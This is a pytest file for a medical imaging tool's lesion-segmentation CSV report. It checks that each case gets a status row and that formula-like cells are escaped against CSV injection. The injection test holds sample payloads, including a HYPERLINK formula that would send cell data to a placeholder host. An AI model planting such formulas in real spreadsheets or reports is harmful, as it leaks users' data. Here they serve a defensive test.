"""``segment --report``: every case has a row. A case with no lesion wrote none, so "no lesion
found" could not be told from "failed" or "not reached" in the CSV."""

from __future__ import annotations

import csv

import numpy as np
import pytest

from neuroview.core.errors import ModelError


@pytest.fixture
def fake_model(monkeypatch):
    """Image value 1: one 27-voxel lesion; 2: nothing; 3: the model fails."""
    import neuroview.ai.segment as segment_module
    from neuroview.ai.api import LabelInfo, SegmentationResult

    def segment(volume, *args, **kwargs):
        kind = int(np.asarray(volume.array).max())
        if kind == 3:
            raise ModelError("the model ran out of memory")
        labels = np.zeros(volume.shape, np.uint8)
        if kind == 1:
            labels[4:7, 4:7, 4:7] = 1
        return SegmentationResult(labels, volume.ijk_to_ras, [LabelInfo(1, "lesion", (255, 64, 0))],
                                  "fake@1.0", "cpu")

    monkeypatch.setattr(segment_module, "segment", segment)


def test_each_case_has_a_row_with_its_status(capsys, tmp_path, fake_model):
    from neuroview.cli.main import main
    from neuroview.io.nifti import save_nifti

    for name, value in (("found", 1), ("clean", 2), ("broken", 3)):
        save_nifti(np.full((12, 12, 12), value, np.float32), np.eye(4), tmp_path / "in" / f"{name}.nii.gz")
    report = tmp_path / "lesions.csv"
    code = main(["segment", str(tmp_path / "in"), "-o", str(tmp_path / "out"), "--report", str(report)])
    out, err = capsys.readouterr()
    assert code == 1 and "out of memory" in err
    with open(report, newline="") as handle:
        rows = list(csv.DictReader(handle))
    by_case = {r["case"]: r for r in rows}
    assert sorted(by_case) == ["broken", "clean", "found"] and len(rows) == 3
    assert (by_case["found"]["status"], by_case["found"]["lesion"], by_case["found"]["voxels"]) \
        == ("found", "1", "27")
    assert (by_case["clean"]["status"], by_case["clean"]["segment"], by_case["clean"]["lesion"],
            by_case["clean"]["voxels"], by_case["clean"]["longest_diameter_mm"]) \
        == ("none found", "lesion", "0", "0", "")
    assert by_case["broken"]["status"] == "failed" and by_case["broken"]["voxels"] == ""
    assert f"{report}  (1 lesion; 1 case failed)" in out


def test_cells_that_look_like_formulas_stay_text(tmp_path, monkeypatch, capsys):
    """A case file named ``=2+3.nii.gz`` and a model's label named ``=HYPERLINK(...)`` were
    written as they are: formulas to Excel and LibreOffice when the report is opened there (CSV
    injection; session 41). They are kept text with a leading apostrophe, as spreadsheets do."""
    import neuroview.ai.segment as segment_module
    from neuroview.ai.api import LabelInfo, SegmentationResult
    from neuroview.cli.main import main
    from neuroview.io.nifti import save_nifti

    label = '=HYPERLINK("http://x.invalid/?"&A1,"open")'

    def segment(volume, *args, **kwargs):
        labels = np.zeros(volume.shape, np.uint8)
        if int(np.asarray(volume.array).max()) == 1:
            labels[4:7, 4:7, 4:7] = 1
        return SegmentationResult(labels, volume.ijk_to_ras, [LabelInfo(1, label, (255, 64, 0))],
                                  "fake@1.0", "cpu")

    monkeypatch.setattr(segment_module, "segment", segment)
    for name, value in (("=2+3", 1), ("@SUM(A1)", 2), ("-1", 1)):
        save_nifti(np.full((12, 12, 12), value, np.float32), np.eye(4), tmp_path / "in" / f"{name}.nii.gz")
    report = tmp_path / "lesions.csv"
    assert main(["segment", str(tmp_path / "in"), "-o", str(tmp_path / "out"), "--report", str(report)]) == 0
    with open(report, newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert sorted((r["case"], r["segment"], r["status"]) for r in rows) == [
        ("'-1", f"'{label}", "found"), ("'=2+3", f"'{label}", "found"),
        ("'@SUM(A1)", f"'{label}", "none found")]
